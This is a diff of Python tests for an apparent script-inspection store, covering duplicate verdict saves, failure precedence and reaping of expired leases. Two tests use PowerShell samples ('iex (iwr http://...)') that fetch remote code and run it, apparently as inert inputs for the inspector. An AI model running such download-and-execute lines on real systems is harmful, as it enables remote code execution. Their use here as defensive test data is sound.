@@ -60,14 +60,6 @@ async def test_a_blob_that_does_not_match_its_key_is_refused(store: Store) -> No
         await store.inspections.save_verdict("b1", make_verdict("b1", [b"one"]), wrong)
 
 
-async def test_saving_a_verdict_twice_replaces_the_tree_and_keeps_history(store: Store) -> None:
-    await _done(store, "r1", [b"a", b"b"])
-    await store.inspections.save_verdict("r1", make_verdict("r1", [b"a", b"b"], score=50), blobs_of([b"a", b"b"]))
-    stored = await store.inspections.get("r1")
-    assert stored is not None and stored.verdict is not None and stored.verdict.score == 50
-    assert (await store.payloads.get(hashlib.sha256(b"a").hexdigest())).inspections == ["r1"]  # type: ignore[union-attr]
-
-
 # ---------------------------------------------------------------- listing
 
 
@@ -155,3 +147,74 @@ async def test_concurrent_writers_do_not_lose_rows(store: Store) -> None:
     assert len(await store.inspections.search(InspectionFilter(), limit=100)) == 20
     info = await store.payloads.get(hashlib.sha256(b"shared root").hexdigest())
     assert info is not None and len(info.inspections) == 20
+
+
+# ---------------------------------------------------------------- crash safety: guarded steps and leases
+
+
+async def _verdict_rows(store: Store, inspection_id: str) -> int:
+    import sqlalchemy as sa
+
+    from inspector.store.schema import verdicts
+
+    async with store.database.read() as conn:
+        return int(await conn.scalar(sa.select(sa.func.count()).select_from(verdicts)
+                                     .where(verdicts.c.inspection_id == inspection_id)))
+
+
+async def test_a_verdict_stored_twice_is_stored_once_and_the_inspection_stays_done(store: Store) -> None:
+    contents = [b"iex (iwr http://x)"]
+    await store.inspections.create("r1", "script", {}, None, None)
+    assert await store.inspections.mark_running("r1")
+    assert await store.inspections.save_verdict("r1", make_verdict("r1", contents), blobs_of(contents))
+    # A redelivered task runs again: it may not start, fail or store anything.
+    assert not await store.inspections.mark_running("r1")
+    assert not await store.inspections.mark_failed("r1", "inspection_failed", "rerun")
+    assert not await store.inspections.save_verdict("r1", make_verdict("r1", contents), blobs_of(contents))
+    stored = await store.inspections.get("r1")
+    assert stored is not None and stored.status == "done" and stored.error is None
+    assert await _verdict_rows(store, "r1") == 1
+
+
+async def test_two_concurrent_saves_of_one_verdict_store_one_row(store: Store) -> None:
+    contents = [b"iex (iwr http://y)"]
+    await store.inspections.create("r2", "script", {}, None, None)
+    saved = await asyncio.gather(*(store.inspections.save_verdict("r2", make_verdict("r2", contents),
+                                                                  blobs_of(contents)) for _ in range(3)))
+    assert sorted(saved) == [False, False, True]
+    assert await _verdict_rows(store, "r2") == 1
+
+
+async def test_a_failure_never_replaces_an_earlier_failure_but_a_late_verdict_replaces_it(store: Store) -> None:
+    await store.inspections.create("r3", "script", {}, None, None)
+    assert await store.inspections.mark_failed("r3", "abandoned", "its process died")
+    assert not await store.inspections.mark_failed("r3", "deadline", "later")
+    assert not await store.inspections.mark_running("r3")
+    assert (await store.inspections.get("r3")).error_kind == "abandoned"  # type: ignore[union-attr]
+    # The worker was only slow: its verdict is worth more than the guess that it died.
+    assert await store.inspections.save_verdict("r3", make_verdict("r3", [b"a"]), blobs_of([b"a"]))
+    stored = await store.inspections.get("r3")
+    assert stored is not None and stored.status == "done" and stored.error is None
+
+
+async def test_inspections_whose_lease_passed_are_marked_abandoned_and_no_others(store: Store) -> None:
+    start = datetime(2030, 1, 1, tzinfo=UTC)
+    await store.inspections.create("q-expired", "script", {}, None, None, lease_expires_at=start)
+    await store.inspections.create("r-expired", "script", {}, None, None)
+    await store.inspections.mark_running("r-expired", lease_expires_at=start + timedelta(seconds=10))
+    await store.inspections.create("r-live", "script", {}, None, None)
+    await store.inspections.mark_running("r-live", lease_expires_at=start + timedelta(seconds=60))
+    await store.inspections.create("no-lease", "script", {}, None, None)
+    await store.inspections.create("done", "script", {}, None, None, lease_expires_at=start)
+    await store.inspections.save_verdict("done", make_verdict("done", [b"d"]), blobs_of([b"d"]))
+
+    assert await store.inspections.reap_abandoned(start) == []
+    reaped = await store.inspections.reap_abandoned(start + timedelta(seconds=30))
+    assert sorted(reaped) == ["q-expired", "r-expired"]
+    for inspection_id in reaped:
+        stored = await store.inspections.get(inspection_id)
+        assert stored is not None and stored.status == "failed" and stored.error_kind == "abandoned"
+    assert (await store.inspections.get("r-live")).status == "running"  # type: ignore[union-attr]
+    assert (await store.inspections.get("no-lease")).status == "queued"  # type: ignore[union-attr]
+    assert (await store.inspections.get("done")).status == "done"  # type: ignore[union-attr]
+    assert await store.inspections.reap_abandoned(start + timedelta(seconds=30)) == []
